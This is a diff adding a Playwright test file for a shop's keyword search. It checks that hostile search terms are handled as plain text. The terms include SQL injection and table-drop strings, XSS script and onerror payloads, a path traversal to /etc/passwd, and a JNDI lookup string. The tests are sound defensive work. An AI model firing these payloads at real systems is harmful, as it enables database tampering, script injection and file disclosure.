@@ -1,0 +1,95 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, open, test } from './shop.ts';
+
+const collection = join(import.meta.dirname, '../../../shared/data/adversarial/keywords.txt');
+
+const fallback = [
+  "' OR '1'='1",
+  "'; DROP TABLE products; --",
+  '") OR 1=1 --',
+  "a100' AND 1=CAST((SELECT version()) AS int)--",
+  '%',
+  '_',
+  '\\',
+  '100%',
+  '*',
+  '(',
+  '[',
+  '"unclosed',
+  '--',
+  '/*',
+  '%00',
+  '\u0000',
+  'A'.repeat(5_000),
+  'مرحبا',
+  '😀',
+  'İ',
+  '  a100   80gb  ',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a keyword that some template engines would run
+  '${jndi:ldap://example.invalid/a}',
+  'null',
+  'undefined',
+];
+
+const collected = existsSync(collection) ? readFileSync(collection, 'utf8').split('\n').filter(Boolean) : [];
+/** Names and keywords in one case; letters of another width or joined ones count as the plain ones. */
+const folded = (text: string) => text.normalize('NFKC').toLowerCase();
+
+const keywords = [...new Set([...fallback, ...collected])];
+
+test('[L-06] every hostile keyword is only a keyword: a page of exactly the products whose names contain it', async ({
+  request,
+}) => {
+  const all = (await (await request.get('/api/product/all')).json()) as Array<{ product_name: string }>;
+  expect(all.length).toBeGreaterThan(100);
+  for (const keyword of keywords) {
+    const matches = all.filter((product) => folded(product.product_name).includes(folded(keyword.trim())));
+    const response = await request.get(`/products/keyword/${encodeURIComponent(keyword)}`);
+    const html = await response.text();
+    const shown = keyword.slice(0, 60);
+    expect(response.status(), shown).toBe(200);
+    expect(html, shown).toContain(`>${matches.length} product${matches.length === 1 ? '' : 's'}<`);
+    expect(matches.length, `${shown} is not the whole catalogue`).toBeLessThan(all.length);
+    expect(html, shown).not.toMatch(/<script>alert|<img src=x/);
+  }
+});
+
+test('no hostile keyword runs as a script, whether linked to or typed in', async ({ page }) => {
+  const dialogs: string[] = [];
+  page.on('dialog', async (dialog) => {
+    dialogs.push(dialog.message());
+    await dialog.dismiss();
+  });
+  for (const keyword of [
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    '</script><script>alert(1)</script>',
+  ]) {
+    await open(page, `/products/keyword/${encodeURIComponent(keyword)}`);
+    await expect(page.getByText(`No products matching keyword '${keyword}'`, { exact: true })).toBeVisible();
+    await expect(page).toHaveTitle(`Search results for '${keyword}' | Hearth`);
+    await expect(page.locator('img[src="x"]')).toHaveCount(0);
+  }
+  await page.getByRole('banner').getByRole('button', { name: 'Search' }).click();
+  await page.getByRole('dialog').getByRole('searchbox', { name: 'Keyword' }).fill('<img src=x onerror=alert(1)>');
+  await page.getByRole('dialog').getByRole('searchbox', { name: 'Keyword' }).press('Enter');
+  await expect(
+    page.getByText("No products matching keyword '<img src=x onerror=alert(1)>'", { exact: true }),
+  ).toBeVisible();
+  expect(dialogs).toEqual([]);
+});
+
+test('[T-05] keywords that are parts of addresses arrive as they were typed', async ({ page }) => {
+  await open(page, '/contact');
+  for (const keyword of ['..', '../../etc/passwd', '?keyword=#', '100% a+b', '%2F']) {
+    await page.getByRole('banner').getByRole('button', { name: 'Search' }).click();
+    await page.getByRole('dialog').getByRole('searchbox', { name: 'Keyword' }).fill(keyword);
+    await page.getByRole('dialog').getByRole('searchbox', { name: 'Keyword' }).press('Enter');
+    await expect(page.getByText(`No products matching keyword '${keyword}'`, { exact: true })).toBeVisible();
+  }
+});
